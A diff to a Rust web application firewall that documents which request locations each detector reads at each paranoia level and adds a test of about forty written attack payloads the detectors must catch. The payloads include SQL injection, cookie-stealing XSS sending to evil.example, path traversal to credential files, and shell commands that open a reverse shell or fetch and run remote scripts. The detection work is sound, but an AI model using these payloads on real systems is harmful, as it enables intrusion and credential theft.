@@ -15,11 +15,22 @@
 //! A value that no decoding changes is never copied.
 //!
 //! Which locations a detector reads at which paranoia level follows the OWASP Core Rule Set:
-//! arguments (query, form, JSON, multipart) and cookies, names and values, always; the
-//! `User-Agent` and `Referer` headers for SQL injection and XSS at 1; the other headers for the
-//! checks CRS runs on all of them (script tags, traversal) at 1 and the rest from 2; the path
-//! for traversal and XSS at 1, for SQL injection from 2. `Cookie` is read as cookies, and the
+//!
+//! | location | sqli | xss | path_traversal | command_injection | protocol |
+//! | --- | --- | --- | --- | --- | --- |
+//! | arguments (query, form, JSON, multipart, XML; names and values), cookies | 1 | 1 | 1 | 1 | 1 |
+//! | path (normalised) | 1 (libinjection from 2) | 1 | 1 | 3 | 1 |
+//! | `User-Agent` | 1 | 1 | 1 | 1 | - |
+//! | `Referer` | 1 | 1 | 2 | 1 | - |
+//! | other headers | 2 | 1 | 1 | 1 (Shellshock only; all from 2) | - |
+//!
+//! `Cookie` is read as cookie pairs; `Content-Type` and `Content-Length` are the parser's; the
 //! credentials in `Authorization` / `Proxy-Authorization` are never read (they belong to JWT).
+//! Multipart file contents are not read (as in CRS), their file names are. Bodies of other types
+//! are opaque at paranoia 1 and one text value from 2.
+//!
+//! Each check inside a detector has its own level too (a single `../` inside prose is 2, any
+//! HTML tag is 3); a finding reports the higher of the two.
 //!
 //! Exclusions ([`Skips`]) come from the caller per request, already matched against its own path
 //! patterns: detectors skipped for the whole request, and detectors skipped for one parameter
@@ -603,6 +614,71 @@ mod tests {
             }
         }
         assert!(failures.is_empty(), "{failures:#?}");
+    }
+
+    /// Attacks written for these tests, not taken from the scoring corpora: the figures must
+    /// hold on payloads the rules were not tuned on.
+    const UNSEEN_ATTACKS: &[(Detector, &str)] = &[
+        (Detector::Sqli, "42 AND 7301=7301"),
+        (Detector::Sqli, "x') OR ('a'='a"),
+        (Detector::Sqli, "1) UNION ALL SELECT username, password FROM accounts--"),
+        (Detector::Sqli, "';SELECT pg_sleep(10)--"),
+        (Detector::Sqli, "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)"),
+        (Detector::Sqli, "admin'/**/OR/**/1=1#"),
+        (Detector::Sqli, "1;DECLARE @q VARCHAR(99);SET @q='\\\\attacker\\x';EXEC master.dbo.xp_dirtree @q"),
+        (Detector::Sqli, "-1 UnIoN SeLeCt NULL,NULL,table_name FROM all_tables"),
+        (Detector::Sqli, "1' AND extractvalue(rand(),concat(0x3a,(select user())))-- -"),
+        (Detector::Sqli, "{\"$gt\": \"\"}"),
+        (Detector::Xss, "<img src=1 onerror=confirm`1`>"),
+        (Detector::Xss, "<details open ontoggle=alert(1)>"),
+        (Detector::Xss, "\"><svg/onload=fetch('//evil.example/'+document.cookie)>"),
+        (Detector::Xss, "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
+        (Detector::Xss, "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"),
+        (Detector::Xss, "';alert(String.fromCharCode(88,83,83))//"),
+        (Detector::Xss, "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+        (Detector::Xss, "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"),
+        (Detector::Xss, "%3Cscript%3Ewindow.location='https://evil.example/?c='+document.cookie%3C/script%3E"),
+        (Detector::Xss, "<body background=\"javascript:alert(1)\">"),
+        (Detector::PathTraversal, "....//....//....//etc/passwd"),
+        (Detector::PathTraversal, "..%252f..%252f..%252fetc%252fpasswd"),
+        (Detector::PathTraversal, "%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini"),
+        (Detector::PathTraversal, "..\\..\\..\\inetpub\\wwwroot\\web.config"),
+        (Detector::PathTraversal, "/proc/self/cwd/app/config.yml"),
+        (Detector::PathTraversal, "file:///c:/windows/system32/drivers/etc/hosts"),
+        (Detector::PathTraversal, "php://filter/convert.base64-encode/resource=../../../../etc/shadow"),
+        (Detector::PathTraversal, "/home/deploy/.aws/credentials"),
+        (Detector::CommandInjection, "127.0.0.1; nc -e /bin/sh 10.0.0.5 4444"),
+        (Detector::CommandInjection, "a | busybox wget http://evil.example/x -O- | sh"),
+        (Detector::CommandInjection, "$(curl -s http://evil.example/p.sh|bash)"),
+        (Detector::CommandInjection, "x`uname -a`"),
+        (Detector::CommandInjection, "; /usr/bin/id"),
+        (Detector::CommandInjection, "|| ping -c 10 127.0.0.1 ||"),
+        (Detector::CommandInjection, "& type C:\\Windows\\win.ini"),
+        (Detector::CommandInjection, "| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://e/x')\""),
+        (Detector::CommandInjection, "test%0Acat%20/etc/hostname"),
+        (Detector::CommandInjection, ";{echo,aWQ=}|{base64,-d}|bash"),
+        (Detector::CommandInjection, "$(printf '\\x69\\x64')"),
+        (Detector::CommandInjection, "x;w'h'o'a'm'i"),
+    ];
+
+    #[test]
+    fn attacks_written_for_these_tests_are_caught_at_paranoia_one() {
+        let w = waf(1);
+        let h = headers(&[]);
+        let mut missed = Vec::new();
+        for (family, v) in UNSEEN_ATTACKS {
+            let json = format!("{{\"q\":{}}}", json_string(v));
+            let via_json = w.inspect_body(Some(b"application/json"), json.as_bytes(), &Skips::NONE);
+            let mut q = String::from("q=");
+            for b in v.bytes() {
+                q.push_str(&format!("%{b:02X}"));
+            }
+            let via_query = w.inspect_head(&head("/api", Some(&q), &h), &Skips::NONE);
+            if via_json.is_none() || via_query.is_none() {
+                missed.push(format!("{family:?}: {v}"));
+            }
+        }
+        assert!(missed.is_empty(), "{missed:#?}");
     }
 
     #[test]
